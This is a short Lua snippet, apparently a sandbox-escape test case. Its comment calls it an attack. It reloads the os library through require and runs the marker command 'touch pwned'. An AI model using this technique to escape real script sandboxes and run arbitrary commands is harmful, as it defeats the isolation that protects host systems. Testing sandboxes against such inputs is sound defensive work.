-- Attack: get the os library back through require, then run a command.
local os_lib = require("os")
os_lib.execute("touch pwned")
